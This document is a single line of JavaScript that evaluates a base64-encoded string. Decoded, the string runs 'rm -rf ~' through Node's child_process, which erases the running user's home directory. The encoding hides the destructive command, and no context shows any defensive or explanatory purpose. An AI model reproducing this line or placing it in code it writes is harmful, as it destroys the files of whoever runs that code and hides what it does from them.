eval(atob("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgfiIp"));
